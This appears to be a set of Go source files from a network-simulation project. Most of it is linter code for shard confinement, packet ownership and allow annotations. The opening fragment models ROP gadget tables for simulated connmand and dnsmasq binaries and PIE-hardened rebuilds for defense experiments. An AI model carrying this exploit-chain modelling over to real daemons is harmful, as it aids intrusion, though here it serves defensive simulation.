			0x1c054: {Name: GadgetPopRDI, Ops: []procvm.Op{procvm.OpPop{Reg: procvm.RDI}}},
			0x03d92: {Name: GadgetExit, Ops: []procvm.Op{procvm.OpSysExit{}}},
			0x41414: {Name: "misaligned_junk", Ops: []procvm.Op{procvm.OpCrash{}}},
		},
		SizeBytes: 389 * 1024,
	}
}

// HardenedConnman returns a PIE rebuild of connmand — what a vendor
// that actually recompiles with modern defaults would ship. Used by
// the defense experiments to show ASLR+PIE stopping the chain.
func HardenedConnman() *procvm.Program {
	p := Connman()
	p.Name = "connmand-1.34-pie"
	p.PIE = true
	return p
}

// HardenedDnsmasq returns a PIE rebuild of dnsmasq.
func HardenedDnsmasq() *procvm.Program {
	p := Dnsmasq()
	p.Name = "dnsmasq-2.77-pie"
	p.PIE = true
	return p
}

// ByName resolves a program by its binary name. ok=false for unknown
// or VM-less binaries (e.g. mirai, whose behaviour is native).
func ByName(name string) (*procvm.Program, bool) {
	switch name {
	case BinConnman:
		return Connman(), true
	case BinDnsmasq:
		return Dnsmasq(), true
	default:
		return nil, false
	}
}
