package lint

// inventory.go materializes the shard-confinement engine's view of
// the tree into the work-list artifact behind `cmd/simlint
// -inventory`: every shared-state access site a scheduler-reachable
// handler performs, with the reachability chain that makes it run at
// event time. The sharding work consumes this — "violation" rows are
// blockers, "allowed" rows are audited suppressions to re-review,
// "boundary" rows are the sanctioned message-path crossings the
// partitioned kernel carries as timestamped messages, and "barrier"
// rows are control-plane mutations that execute with every shard
// worker parked (ShardSet.WithLP / Scheduler.Barrier bodies). The
// allocation-reachability engine (allocfree.go) contributes rows of
// its own: "hotpath" rows name the declared allocation-free roots
// (seeded or //simlint:hotpath), and its violation/allowed rows are
// the allocation sites reachable from them.

import (
	"go/token"
	"sort"
)

// InventoryEntry is one shared-state access site reachable from a
// scheduler callback.
type InventoryEntry struct {
	File string `json:"file"`
	Line int    `json:"line"`
	Col  int    `json:"col"`
	// Analyzer that classified the site (shardconfine or crossnode);
	// empty for boundary rows.
	Analyzer string `json:"analyzer,omitempty"`
	// Class: "violation" (surfaces as a diagnostic), "allowed"
	// (suppressed by an audited //simlint:allow), "boundary" (a
	// sanctioned message-path call), "barrier" (a partition
	// mutation inside a ShardSet.WithLP / Scheduler.Barrier body —
	// world-stopped, sanctioned), or "hotpath" (a declared
	// allocation-free root of the allocfree engine).
	Class string `json:"class"`
	// Subject is the state touched: a type for partition state, a
	// variable name for globals.
	Subject string `json:"subject"`
	// Detail refines the access: the mutation verb, or the boundary
	// API's function key.
	Detail string `json:"detail,omitempty"`
	// Chain is the reachability path from the handler root.
	Chain string `json:"chain"`
}

// addInventory records one site against u's package positions.
func (eng *confEngine) addInventory(u *confUnit, pos token.Pos, analyzer, class, subject, detail string) {
	position := u.pkg.Fset.Position(pos)
	eng.inventory = append(eng.inventory, InventoryEntry{
		File:     u.pkg.relPath(position.Filename),
		Line:     position.Line,
		Col:      position.Column,
		Analyzer: analyzer,
		Class:    class,
		Subject:  subject,
		Detail:   detail,
		Chain:    u.chain(),
	})
}

// BuildInventory runs the shard-confinement pair over pkgs and
// returns every shared-state access site, with violations that an
// allow annotation suppressed reclassified as "allowed". The result
// is deterministically ordered and suitable for committing as a
// golden artifact.
func BuildInventory(pkgs []*Package) []InventoryEntry {
	shardconfine, crossnode := NewShardConfinement()
	allocfree := NewAllocFree()
	diags := Run(pkgs, []Analyzer{shardconfine, crossnode, allocfree})
	surviving := make(map[string]bool, len(diags))
	for _, d := range diags {
		surviving[invKey(d.File, d.Line, d.Col, d.Analyzer)] = true
	}
	eng := shardconfine.(*confAnalyzer).eng
	aeng := allocfree.(*allocAnalyzer).eng
	entries := make([]InventoryEntry, 0, len(eng.inventory)+len(aeng.g.inventory))
	entries = append(entries, eng.inventory...)
	entries = append(entries, aeng.g.inventory...)
	for i := range entries {
		e := &entries[i]
		if e.Class == "violation" && !surviving[invKey(e.File, e.Line, e.Col, e.Analyzer)] {
			e.Class = "allowed"
		}
	}
	sort.Slice(entries, func(i, j int) bool {
		a, b := entries[i], entries[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Col != b.Col {
			return a.Col < b.Col
		}
		if a.Class != b.Class {
			return a.Class < b.Class
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		if a.Subject != b.Subject {
			return a.Subject < b.Subject
		}
		return a.Detail < b.Detail
	})
	// A site can be discovered through several reachability chains
	// (the engine dedups per unit, not globally); keep the first.
	out := entries[:0]
	var last InventoryEntry
	for i, e := range entries {
		if i > 0 && e.File == last.File && e.Line == last.Line && e.Col == last.Col &&
			e.Class == last.Class && e.Analyzer == last.Analyzer &&
			e.Subject == last.Subject && e.Detail == last.Detail {
			continue
		}
		out = append(out, e)
		last = e
	}
	return out
}

func invKey(file string, line, col int, analyzer string) string {
	return file + "\x00" + itoa(line) + "\x00" + itoa(col) + "\x00" + analyzer
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
