package lint

import "testing"

// BenchmarkSimlintRepo measures the full-tree analysis cost CI pays
// on every push: the module is loaded and type-checked once (that
// cost is go/parser+go/types, not ours), then each iteration runs the
// complete default suite — including the shard-confinement
// reachability engine, which rebuilds its call graph and provenance
// summaries from scratch because analyzers are stateful per run.
func BenchmarkSimlintRepo(b *testing.B) {
	l, err := NewLoader(".")
	if err != nil {
		b.Fatal(err)
	}
	pkgs, err := l.LoadAll(".")
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if diags := Run(pkgs, DefaultSuite()); len(diags) != 0 {
			b.Fatalf("tree not clean: %v", diags)
		}
	}
}
