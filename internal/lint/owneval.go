package lint

// owneval.go is the transfer function of the ownership analysis: how
// one AST node transforms the fact map. The walk deliberately does
// not descend into function literals — a literal is its own analysis
// unit (ownership.go); here only the act of capturing is modeled.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
)

type ownEval struct {
	u   *ownUnit
	eng *ownEngine

	// facts is the state being transformed; swapped per block by the
	// fixpoint driver.
	facts ownFacts

	// emit is nil during fixpoint rounds and set for the final
	// reporting walk.
	emit func(ownFinding)

	// Unit-level bookkeeping, idempotent across fixpoint rounds: where
	// each variable was last allocated / released / handed off, which
	// variables are range-loop variables, and which have a deferred
	// release (exempt from the exit leak check).
	allocSite    map[*types.Var]token.Pos
	eventSite    map[*types.Var]token.Pos
	rangeVars    map[*types.Var]bool
	deferRelease map[*types.Var]bool

	// retMasks accumulates the state of pooled results at each return,
	// by result index; only populated during the final walk.
	retMasks map[int]stateMask
}

func (ev *ownEval) reportf(kind ownKind, pos token.Pos, format string, args ...any) {
	if ev.emit == nil {
		return
	}
	ev.emit(ownFinding{kind: kind, pos: pos, msg: fmt.Sprintf(format, args...)})
}

// site renders a position as file:line for embedding in messages.
func (ev *ownEval) site(pos token.Pos) string {
	p := ev.u.pkg.Fset.Position(pos)
	return fmt.Sprintf("%s:%d", ev.u.pkg.relPath(p.Filename), p.Line)
}

// trackedVar resolves e to a tracked pooled variable, or nil.
func (ev *ownEval) trackedVar(e ast.Expr) *types.Var {
	id, ok := ast.Unparen(e).(*ast.Ident)
	if !ok {
		return nil
	}
	obj := ev.u.pkg.Info.Uses[id]
	if obj == nil {
		obj = ev.u.pkg.Info.Defs[id]
	}
	v, ok := obj.(*types.Var)
	if !ok || !ev.eng.isTrackable(ev.u.pkg, v) {
		return nil
	}
	return v
}

// ---- statement dispatch -------------------------------------------------

func (ev *ownEval) node(n ast.Node) {
	switch n := n.(type) {
	case *ast.AssignStmt:
		ev.assign(n)
	case *ast.ReturnStmt:
		ev.ret(n)
	case *ast.RangeStmt:
		ev.rangeHead(n)
	case *ast.ExprStmt:
		ev.exprStmt(n)
	case *ast.IncDecStmt:
		ev.expr(n.X)
	case *ast.SendStmt:
		ev.expr(n.Chan)
		ev.handoff(n.Value, "sent on a channel")
	case *ast.DeclStmt:
		ev.decl(n)
	case *ast.DeferStmt:
		ev.deferCall(n.Call)
	case *ast.GoStmt:
		ev.goCall(n.Call)
	case ast.Expr:
		ev.expr(n)
	}
}

// exprStmt evaluates a call-for-effect; discarding an owned pooled
// result is a leak at the call site.
func (ev *ownEval) exprStmt(s *ast.ExprStmt) {
	call, ok := ast.Unparen(s.X).(*ast.CallExpr)
	if !ok {
		ev.expr(s.X)
		return
	}
	for _, m := range ev.callResults(call) {
		if m&stOwned != 0 {
			ev.reportf(kindLeak, call.Pos(),
				"pooled packet allocated and immediately discarded in %s: the owned result is never released or handed off", ev.u.desc)
		}
	}
}

func (ev *ownEval) decl(s *ast.DeclStmt) {
	gd, ok := s.Decl.(*ast.GenDecl)
	if !ok {
		return
	}
	for _, spec := range gd.Specs {
		vs, ok := spec.(*ast.ValueSpec)
		if !ok {
			continue
		}
		ev.bind(identExprs(vs.Names), vs.Values, token.DEFINE, s.Pos())
	}
}

func identExprs(ids []*ast.Ident) []ast.Expr {
	out := make([]ast.Expr, len(ids))
	for i, id := range ids {
		out[i] = id
	}
	return out
}

func (ev *ownEval) assign(s *ast.AssignStmt) {
	ev.bind(s.Lhs, s.Rhs, s.Tok, s.Pos())
}

// bind applies an assignment or declaration: compute the state of
// each right-hand value, then rebind or escape each left-hand target.
func (ev *ownEval) bind(lhs, rhs []ast.Expr, tok token.Token, pos token.Pos) {
	masks := make([]stateMask, len(lhs))
	switch {
	case len(rhs) == 1 && len(lhs) > 1:
		// Multi-value: a call, type assertion, or map index.
		if call, ok := ast.Unparen(rhs[0]).(*ast.CallExpr); ok {
			res := ev.callResults(call)
			copy(masks, res)
		} else {
			ev.expr(rhs[0])
			for i, l := range lhs {
				if t := ev.u.pkg.Info.TypeOf(l); t != nil && ev.eng.isPooledPtr(t) {
					masks[i] = stUnknown
				}
			}
		}
	default:
		for i, r := range rhs {
			if i < len(masks) {
				masks[i] = ev.rhsMask(r)
			} else {
				ev.expr(r)
			}
		}
	}
	for i, l := range lhs {
		l = ast.Unparen(l)
		if id, ok := l.(*ast.Ident); ok {
			if id.Name == "_" {
				continue
			}
			v := ev.trackedVar(id)
			if v == nil {
				continue // assignment to a non-pooled variable is not a use
			}
			old := ev.facts[v]
			if tok == token.ASSIGN && old&stOwned != 0 && old&(stUnknown|stCaptured) == 0 {
				ev.reportf(kindLeak, id.Pos(),
					"pooled packet %s overwritten while still owned (allocated at %s): the old packet leaks",
					v.Name(), ev.site(ev.allocSite[v]))
			}
			ev.facts[v] = masks[i]
			if masks[i]&stOwned != 0 {
				ev.allocSite[v] = id.Pos()
			}
			continue
		}
		// Storing through a field, index, or dereference target: the
		// target expression's identifiers are uses; a tracked RHS value
		// escapes into shared storage.
		ev.expr(l)
		if i < len(rhs) {
			if v := ev.trackedVar(rhs[i]); v != nil {
				ev.escape(v, rhs[i].Pos(), "stored into shared storage")
			}
		}
	}
}

// rhsMask evaluates one right-hand expression and reports the state
// of the resulting value (0 = untracked: the variable leaves the
// analysis, e.g. a plain &Packet{} literal the pool never owns).
func (ev *ownEval) rhsMask(r ast.Expr) stateMask {
	r = ast.Unparen(r)
	switch r := r.(type) {
	case *ast.CallExpr:
		res := ev.callResults(r)
		if len(res) > 0 {
			return res[0]
		}
		return 0
	case *ast.Ident:
		if v := ev.trackedVar(r); v != nil {
			// Aliasing: two names for one packet defeats the per-variable
			// state map, so both sides widen to unknown.
			ev.useVar(v, r.Pos())
			ev.facts[v] = stUnknown
			return stUnknown
		}
		return 0
	case *ast.TypeAssertExpr:
		ev.expr(r.X)
		if t := ev.u.pkg.Info.TypeOf(r); t != nil && ev.eng.isPooledPtr(t) {
			return stUnknown
		}
		return 0
	default:
		ev.expr(r)
		if t := ev.u.pkg.Info.TypeOf(r); t != nil && ev.eng.isPooledPtr(t) {
			// A pooled pointer from a source the engine cannot model
			// (field read, map/slice element, channel receive).
			return stUnknown
		}
		return 0
	}
}

func (ev *ownEval) ret(s *ast.ReturnStmt) {
	for i, res := range s.Results {
		v := ev.trackedVar(res)
		if v == nil {
			if call, ok := ast.Unparen(res).(*ast.CallExpr); ok {
				// return f(...): pass the callee's result states through
				// (positionally for the single-expression spread form).
				rm := ev.callResults(call)
				if ev.retMasks != nil {
					if len(s.Results) == 1 {
						for j, m := range rm {
							ev.retMasks[j] |= m
						}
					} else if len(rm) == 1 {
						ev.retMasks[i] |= rm[0]
					}
				}
				continue
			}
			ev.expr(res)
			if t := ev.u.pkg.Info.TypeOf(res); t != nil && ev.eng.isPooledPtr(t) && ev.retMasks != nil {
				ev.retMasks[i] |= stUnknown
			}
			continue
		}
		mask := ev.facts[v]
		ev.useVar(v, res.Pos())
		if mask&stCaptured != 0 {
			ev.reportf(kindStaleConsume, res.Pos(),
				"pooled packet %s returned while a scheduled callback still captures it (captured at %s)",
				v.Name(), ev.site(ev.eventSite[v]))
		}
		if ev.retMasks != nil {
			ev.retMasks[i] |= mask
		}
		// Ownership (whatever this frame had) moves to the caller.
		ev.facts[v] = stHandedOff
		ev.eventSite[v] = res.Pos()
	}
}

func (ev *ownEval) rangeHead(s *ast.RangeStmt) {
	ev.expr(s.X)
	for _, e := range []ast.Expr{s.Key, s.Value} {
		if e == nil {
			continue
		}
		if v := ev.trackedVar(e); v != nil {
			// Elements looked at through a range are borrowed views into
			// the container; the per-iteration variable is also exactly
			// the thing a scheduled callback must not capture.
			ev.facts[v] = stBorrowed
			ev.rangeVars[v] = true
		}
	}
}

// ---- expression walk ----------------------------------------------------

func (ev *ownEval) expr(e ast.Expr) {
	switch e := e.(type) {
	case nil:
	case *ast.Ident:
		if v := ev.trackedVar(e); v != nil {
			ev.useVar(v, e.Pos())
		}
	case *ast.ParenExpr:
		ev.expr(e.X)
	case *ast.CallExpr:
		ev.callResults(e)
	case *ast.SelectorExpr:
		ev.expr(e.X)
	case *ast.StarExpr:
		ev.expr(e.X)
	case *ast.UnaryExpr:
		if e.Op == token.AND {
			if v := ev.trackedVar(e.X); v != nil {
				ev.escape(v, e.Pos(), "address taken")
				return
			}
		}
		ev.expr(e.X)
	case *ast.BinaryExpr:
		ev.cmpOperand(e.X, e.Op)
		ev.cmpOperand(e.Y, e.Op)
	case *ast.IndexExpr:
		ev.expr(e.X)
		ev.expr(e.Index)
	case *ast.SliceExpr:
		ev.expr(e.X)
		ev.expr(e.Low)
		ev.expr(e.High)
		ev.expr(e.Max)
	case *ast.TypeAssertExpr:
		ev.expr(e.X)
	case *ast.KeyValueExpr:
		ev.expr(e.Key)
		ev.expr(e.Value)
	case *ast.CompositeLit:
		for _, elt := range e.Elts {
			val := elt
			if kv, ok := elt.(*ast.KeyValueExpr); ok {
				val = kv.Value
			}
			if v := ev.trackedVar(val); v != nil {
				ev.escape(v, val.Pos(), "stored in a composite literal")
				continue
			}
			ev.expr(elt)
		}
	case *ast.FuncLit:
		// A literal not passed to a scheduling entry: invocation time is
		// unknowable here, so captured pooled state widens to unknown.
		ev.capture(e, false, "")
	}
}

// cmpOperand: comparing a pooled pointer (against nil or another
// pointer) is not a dereference — Go permits comparing dangling
// pointers — so comparisons are exempt from the use check.
func (ev *ownEval) cmpOperand(e ast.Expr, op token.Token) {
	switch op {
	case token.EQL, token.NEQ, token.LSS, token.LEQ, token.GTR, token.GEQ:
		if ev.trackedVar(e) != nil {
			return
		}
	}
	ev.expr(e)
}

// useVar reports a touch of a variable that may already be dead.
func (ev *ownEval) useVar(v *types.Var, pos token.Pos) {
	mask := ev.facts[v]
	if mask&stReleased != 0 {
		ev.reportf(kindUseAfterRelease, pos,
			"pooled packet %s used after release (released at %s): a released packet may already be recycled for another flow",
			v.Name(), ev.site(ev.eventSite[v]))
	} else if mask&stHandedOff != 0 {
		ev.reportf(kindUseAfterHandoff, pos,
			"pooled packet %s used after ownership hand-off (handed off at %s): the new owner may free or rewrite it",
			v.Name(), ev.site(ev.eventSite[v]))
	}
}

// escape: the packet's address got out of the engine's sight; its
// ownership obligations transfer with it.
func (ev *ownEval) escape(v *types.Var, pos token.Pos, how string) {
	ev.useVar(v, pos)
	ev.facts[v] = stHandedOff
	ev.eventSite[v] = pos
}

// handoff marks an explicit ownership transfer of a value expression.
func (ev *ownEval) handoff(e ast.Expr, how string) {
	if v := ev.trackedVar(e); v != nil {
		ev.useVar(v, e.Pos())
		if ev.facts[v]&stCaptured != 0 {
			ev.reportf(kindStaleConsume, e.Pos(),
				"pooled packet %s %s while a scheduled callback still captures it (captured at %s)",
				v.Name(), how, ev.site(ev.eventSite[v]))
		}
		ev.facts[v] = stHandedOff
		ev.eventSite[v] = e.Pos()
		return
	}
	ev.expr(e)
}

// ---- calls --------------------------------------------------------------

// funcFor mirrors Pass.FuncFor for this unit's package.
func (ev *ownEval) funcFor(call *ast.CallExpr) *types.Func {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.SelectorExpr:
		if f, ok := ev.u.pkg.Info.Uses[fun.Sel].(*types.Func); ok {
			return f
		}
	case *ast.Ident:
		if f, ok := ev.u.pkg.Info.Uses[fun].(*types.Func); ok {
			return f
		}
	}
	return nil
}

// callResults evaluates a call's effects and returns the state of
// each pooled result (by result index; 0 for untracked results).
func (ev *ownEval) callResults(c *ast.CallExpr) []stateMask {
	info := ev.u.pkg.Info

	// Type conversions: Pooled(x) cannot occur (pointer conversions to
	// a pool type do not exist in the tree), but walk operands anyway.
	if tv, ok := info.Types[c.Fun]; ok && tv.IsType() {
		for _, a := range c.Args {
			ev.expr(a)
		}
		return nil
	}
	// Builtins.
	if id, ok := ast.Unparen(c.Fun).(*ast.Ident); ok {
		if _, isBuiltin := info.Uses[id].(*types.Builtin); isBuiltin {
			return ev.builtinCall(id.Name, c)
		}
	}

	fn := ev.funcFor(c)

	// Scheduling entries: function literal arguments outlive this
	// frame — the heart of the stalecapture analyzer.
	if fn != nil && fn.Pkg() != nil && fn.Pkg().Path() == ev.eng.cfg.SchedPkg && isSchedulingEntry(fn) {
		for _, a := range c.Args {
			if lit, ok := ast.Unparen(a).(*ast.FuncLit); ok {
				ev.capture(lit, true, fn.Name())
				continue
			}
			ev.expr(a)
		}
		return nil
	}

	// Walk the callee expression (method receiver or function value).
	var recvVar *types.Var
	switch fun := ast.Unparen(c.Fun).(type) {
	case *ast.SelectorExpr:
		recvVar = ev.trackedVar(fun.X)
		ev.expr(fun.X)
	case *ast.Ident:
		// plain function name: nothing to walk
	default:
		ev.expr(c.Fun)
	}

	var seededAlloc, seededRelease, seededConsume bool
	var sum *ownSummary
	if fn != nil {
		key := funcKey(fn)
		seededAlloc = ev.eng.cfg.Allocs[key]
		seededRelease = ev.eng.cfg.Releases[key]
		seededConsume = ev.eng.cfg.Consumes[key]
		sum = ev.eng.summaries[fn]
	}

	// Receiver effect (methods on the pooled type itself, e.g. Clone).
	if recvVar != nil && sum != nil && sum.recv != 0 {
		ev.facts[recvVar] = applySummary(ev.facts[recvVar], sum.recv)
	}

	// Argument effects.
	var sig *types.Signature
	if fn != nil {
		sig, _ = fn.Type().(*types.Signature)
	}
	for i, a := range c.Args {
		v := ev.trackedVar(a)
		if v == nil {
			ev.expr(a)
			continue
		}
		mask := ev.facts[v]
		if seededRelease {
			switch {
			case mask&stReleased != 0:
				ev.reportf(kindDoubleRelease, a.Pos(),
					"pooled packet %s released twice (first released at %s): double-free corrupts the free list",
					v.Name(), ev.site(ev.eventSite[v]))
			case mask&stHandedOff != 0:
				ev.reportf(kindUseAfterHandoff, a.Pos(),
					"pooled packet %s released after ownership hand-off (handed off at %s): this frame no longer owns it",
					v.Name(), ev.site(ev.eventSite[v]))
			case mask&stCaptured != 0:
				ev.reportf(kindStaleConsume, a.Pos(),
					"pooled packet %s released while a scheduled callback still captures it (captured at %s): the callback will touch a recycled packet",
					v.Name(), ev.site(ev.eventSite[v]))
			}
			ev.facts[v] = stReleased
			ev.eventSite[v] = a.Pos()
			continue
		}
		ev.useVar(v, a.Pos())
		if seededConsume {
			if mask&stCaptured != 0 {
				ev.reportf(kindStaleConsume, a.Pos(),
					"pooled packet %s handed off while a scheduled callback still captures it (captured at %s)",
					v.Name(), ev.site(ev.eventSite[v]))
			}
			ev.facts[v] = stHandedOff
			ev.eventSite[v] = a.Pos()
			continue
		}
		if fn == nil {
			// Dynamic call through a function value: the documented
			// handler convention (taps, filters, transport callbacks) is
			// that callees borrow — the caller keeps ownership.
			continue
		}
		if sum != nil {
			idx := i
			if sig != nil && sig.Variadic() && idx >= sig.Params().Len()-1 {
				idx = sig.Params().Len() - 1
			}
			if pm, ok := sum.params[idx]; ok {
				nm := applySummary(mask, pm)
				if nm != mask {
					ev.facts[v] = nm
					if nm&(stReleased|stHandedOff) != 0 {
						ev.eventSite[v] = a.Pos()
					}
				}
				continue
			}
			continue
		}
		if seededAlloc || isInterfaceMethod(fn) {
			// Seeded allocators borrow their operands (clone sources);
			// interface methods follow the borrow convention like
			// function values do.
			continue
		}
		// Callee with no summary (std lib, or a package outside this
		// run): give up tracking rather than guess.
		ev.facts[v] = stUnknown
	}

	// Result states.
	if sig == nil {
		return nil
	}
	res := make([]stateMask, sig.Results().Len())
	for i := range res {
		if !ev.eng.isPooledPtr(sig.Results().At(i).Type()) {
			continue
		}
		switch {
		case seededAlloc:
			res[i] = stOwned
		case sum != nil:
			res[i] = mapResultMask(sum.results[i])
		default:
			res[i] = stUnknown
		}
	}
	return res
}

func (ev *ownEval) builtinCall(name string, c *ast.CallExpr) []stateMask {
	switch name {
	case "append":
		if len(c.Args) > 0 {
			ev.expr(c.Args[0])
			for _, a := range c.Args[1:] {
				if v := ev.trackedVar(a); v != nil {
					ev.escape(v, a.Pos(), "appended to a slice")
					continue
				}
				ev.expr(a)
			}
		}
	case "make", "new":
		for _, a := range c.Args[1:] { // first arg is a type
			ev.expr(a)
		}
	default:
		for _, a := range c.Args {
			ev.expr(a)
		}
	}
	return nil
}

func (ev *ownEval) deferCall(c *ast.CallExpr) {
	fn := ev.funcFor(c)
	if fn != nil && ev.eng.cfg.Releases[funcKey(fn)] {
		// defer release: runs on every exit path, so the deferred
		// variable is exempt from the exit leak check. The release
		// effect itself is not applied mid-function — the packet stays
		// usable until return.
		if sel, ok := ast.Unparen(c.Fun).(*ast.SelectorExpr); ok {
			ev.expr(sel.X)
		}
		for _, a := range c.Args {
			if v := ev.trackedVar(a); v != nil {
				ev.deferRelease[v] = true
				continue
			}
			ev.expr(a)
		}
		return
	}
	// Other deferred calls: apply effects immediately (conservative —
	// they run before the frame dies either way).
	ev.callResults(c)
}

func (ev *ownEval) goCall(c *ast.CallExpr) {
	// schedblock already bans goroutines in simulation code; for
	// ownership purposes everything a goroutine touches is unknowable.
	ev.expr(c.Fun)
	for _, a := range c.Args {
		if v := ev.trackedVar(a); v != nil {
			ev.facts[v] = stUnknown
			continue
		}
		ev.expr(a)
	}
}

// ---- captures -----------------------------------------------------------

// capture models a function literal closing over pooled variables.
// scheduled literals (Schedule*/NewTicker arguments) run after this
// frame returns, under the slot/generation kernel — so capturing
// anything this frame merely borrows is a lifetime bug.
func (ev *ownEval) capture(lit *ast.FuncLit, scheduled bool, entry string) {
	for _, v := range ev.eng.capturedPooled(ev.u.pkg, lit) {
		mask := ev.facts[v]
		if mask == 0 {
			continue // untracked here (e.g. a non-pooled-origin packet)
		}
		if !scheduled {
			// Plain closure: invocation time unknown; stop tracking
			// owned/borrowed state rather than guess.
			if mask&(stOwned|stBorrowed) != 0 {
				ev.facts[v] = stUnknown
			}
			continue
		}
		kindNote := ""
		if ev.rangeVars[v] {
			kindNote = "loop-variable "
		}
		switch {
		case mask&(stReleased|stHandedOff) != 0:
			ev.reportf(kindStaleDead, lit.Pos(),
				"%s callback captures %spooled packet %s already dead at capture time (released/handed off at %s)",
				entry, kindNote, v.Name(), ev.site(ev.eventSite[v]))
		case mask&stBorrowed != 0:
			// The borrow ends when this frame returns, which is before
			// the scheduled event can fire.
			ev.reportf(kindStaleBorrow, lit.Pos(),
				"%s callback captures borrowed %spooled packet %s: the borrow ends when %s returns, before the event fires — clone it or transfer ownership into the callback",
				entry, kindNote, v.Name(), ev.u.desc)
			// Treat ownership as moved into the callback so the rest of
			// the frame is checked against touching it again.
			ev.facts[v] = stHandedOff
			ev.eventSite[v] = lit.Pos()
		case mask == stOwned || mask == stOwned|stCaptured:
			// Owned and captured: legal as long as the owner does not
			// release before the event fires — tracked via stCaptured.
			ev.facts[v] = mask | stCaptured
			ev.eventSite[v] = lit.Pos()
		default:
			// Unknown (or mixed with unknown): no report without a
			// definite fact, but stop tracking.
			ev.facts[v] = stUnknown
		}
	}
}

// ---- summary application ------------------------------------------------

// applySummary maps a callee's exit mask for a parameter onto the
// caller's current mask for the argument.
func applySummary(cur, exit stateMask) stateMask {
	if exit == 0 || exit == stBorrowed {
		return cur // pure borrow: caller state unchanged
	}
	if exit&stUnknown != 0 {
		return stUnknown
	}
	consumed := exit & (stReleased | stHandedOff)
	if consumed != 0 {
		if exit&^(stReleased|stHandedOff) != 0 {
			return stUnknown // consumed on some paths only
		}
		return consumed
	}
	if exit&stCaptured != 0 {
		return stUnknown // a callback somewhere still holds it
	}
	// Remaining bits are owned/borrowed rebinding artifacts inside the
	// callee; the caller's pointer itself was only borrowed.
	return cur
}

// mapResultMask maps a callee's return mask to the caller's view of
// the result value.
func mapResultMask(m stateMask) stateMask {
	if m&stOwned != 0 && m&(stBorrowed|stUnknown|stHandedOff|stReleased) == 0 {
		return stOwned
	}
	if m == 0 {
		return stUnknown
	}
	return stUnknown
}

func isInterfaceMethod(fn *types.Func) bool {
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	return types.IsInterface(sig.Recv().Type())
}
