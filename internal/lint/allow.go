package lint

import (
	"regexp"
	"strings"
)

// Allow-annotation grammar:
//
//	//simlint:allow analyzer(reason)
//	//simlint:allow analyzer1,analyzer2(reason)
//
// Analyzer names are lowercase letters and digits (starting with a
// letter); a comma-separated list suppresses several analyzers with
// one shared reason. The annotation suppresses findings of the named
// analyzers on its own line and on the line directly below — so it
// works both as a trailing comment and as a standalone comment above
// the flagged statement. The reason is mandatory: an empty or missing
// reason is itself a diagnostic, so every suppression carries a
// justification a reviewer can audit.
var allowRe = regexp.MustCompile(`^//simlint:allow\s+([a-z][a-z0-9]*(?:\s*,\s*[a-z][a-z0-9]*)*)\s*\((.*)\)\s*$`)

// allowIndex maps file → line → analyzers allowed at that line.
type allowIndex map[string]map[int]map[string]bool

// covers reports whether an annotation suppresses analyzer findings
// at file:line.
func (idx allowIndex) covers(analyzer, file string, line int) bool {
	lines := idx[file]
	if lines == nil {
		return false
	}
	return lines[line][analyzer] || lines[line-1][analyzer]
}

// collectAllows scans a package's comments for simlint:allow
// annotations, reporting malformed ones (empty reason, or the
// simlint:allow prefix with unparseable arguments) as diagnostics.
func collectAllows(pkg *Package, diags *[]Diagnostic) allowIndex {
	idx := make(allowIndex)
	for _, file := range pkg.Files {
		for _, group := range file.Comments {
			for _, c := range group.List {
				// Only directive-shaped comments count: "//simlint:"
				// at the very start, no space — prose that merely
				// mentions the grammar is ignored.
				text := c.Text
				if !strings.HasPrefix(text, "//simlint:") {
					continue
				}
				pos := pkg.Fset.Position(c.Pos())
				bad := func(msg string) {
					*diags = append(*diags, Diagnostic{
						File: pkg.relPath(pos.Filename), Line: pos.Line, Col: pos.Column,
						Analyzer: "allow", Message: msg,
					})
				}
				m := allowRe.FindStringSubmatch(text)
				if m == nil {
					bad("malformed simlint:allow annotation; want //simlint:allow analyzer(reason)")
					continue
				}
				if strings.TrimSpace(m[2]) == "" {
					bad("simlint:allow " + m[1] + " needs a non-empty reason")
					continue
				}
				lines := idx[pos.Filename]
				if lines == nil {
					lines = make(map[int]map[string]bool)
					idx[pos.Filename] = lines
				}
				if lines[pos.Line] == nil {
					lines[pos.Line] = make(map[string]bool)
				}
				for _, name := range strings.Split(m[1], ",") {
					lines[pos.Line][strings.TrimSpace(name)] = true
				}
			}
		}
	}
	return idx
}
