package lint

import (
	"regexp"
	"strings"
)

// Allow-annotation grammar:
//
//	//simlint:allow analyzer(reason)
//	//simlint:allow analyzer1,analyzer2(reason)
//
// Analyzer names are lowercase letters and digits (starting with a
// letter); a comma-separated list suppresses several analyzers with
// one shared reason. The annotation suppresses findings of the named
// analyzers on its own line and on the line directly below — so it
// works both as a trailing comment and as a standalone comment above
// the flagged statement. The reason is mandatory: an empty or missing
// reason is itself a diagnostic, so every suppression carries a
// justification a reviewer can audit.
//
// Each annotation also tracks whether it suppressed anything: with
// RunOpts.UnusedAllows, an annotation naming an analyzer that ran but
// reported nothing under it becomes a diagnostic of its own, so stale
// suppressions cannot linger after the code they excused is gone.
var allowRe = regexp.MustCompile(`^//simlint:allow\s+([a-z][a-z0-9]*(?:\s*,\s*[a-z][a-z0-9]*)*)\s*\((.*)\)\s*$`)

// Hot-path annotation grammar:
//
//	//simlint:hotpath
//
// placed in a function declaration's doc comment, declares that
// function an allocation-free hot-path root for the allocfree
// analyzer (allocfree.go): every allocation site reachable from it
// is reported with its call chain. The directive takes no arguments
// — a trailing payload is a malformed annotation, and a hotpath
// directive that is not part of a function's doc comment is an
// allocfree finding of its own (it roots nothing).
var hotpathRe = regexp.MustCompile(`^//simlint:hotpath$`)

// allowEntry is one parsed annotation with per-analyzer usage marks.
type allowEntry struct {
	file      string // relative path, for reporting
	line, col int
	analyzers map[string]bool
	used      map[string]bool
}

// allowIndex holds a package's annotations, addressable by
// file+line for suppression and enumerable for the unused audit.
type allowIndex struct {
	byFile  map[string]map[int]*allowEntry
	entries []*allowEntry
}

// covers reports whether an annotation suppresses analyzer findings
